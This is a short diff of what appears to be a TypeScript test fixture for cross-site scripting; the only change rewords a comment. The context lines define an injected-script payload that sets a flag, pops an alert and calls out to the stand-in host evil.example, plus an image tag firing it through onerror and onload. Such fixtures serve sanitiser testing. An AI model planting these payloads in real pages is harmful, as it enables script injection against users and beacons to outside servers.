@@ -4,7 +4,7 @@ import { film } from './film.ts'
 import { picture } from './picture.ts'
 import { recording } from './recording.ts'
 
-/** Says that it ran: to the page, to the person, and to somebody elsewhere. */
+/** Says that it ran: to the page, on the screen, and to a foreign server. */
 const run = "top.hacked=1;alert('hacked');fetch('http://evil.example/ran')"
 const image = `<img src="http://evil.example/seen.png" onerror="${run}" onload="${run}" />`
 
